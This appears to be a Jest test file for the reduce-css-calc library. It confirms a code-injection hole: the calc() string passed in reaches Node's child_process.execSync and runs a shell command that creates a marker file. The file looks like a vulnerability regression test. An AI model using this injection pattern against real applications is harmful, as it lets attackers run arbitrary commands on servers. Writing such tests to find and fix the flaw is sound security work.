const fs = require('fs');
const reduce = require('reduce-css-calc');

describe('calc()', () => {
  afterEach(() => fs.rmSync('seen', { force: true }));

  it('runs what stands in it', () => {
    expect(fs.existsSync('seen')).toBe(false);
    try {
      reduce("calc(process['mainModule']['require']('child_process',)['execSync']('touch seen',))");
    } catch (error) {
      console.log(error.message);
    }
    expect(fs.existsSync('seen')).toBe(true);
  });
});
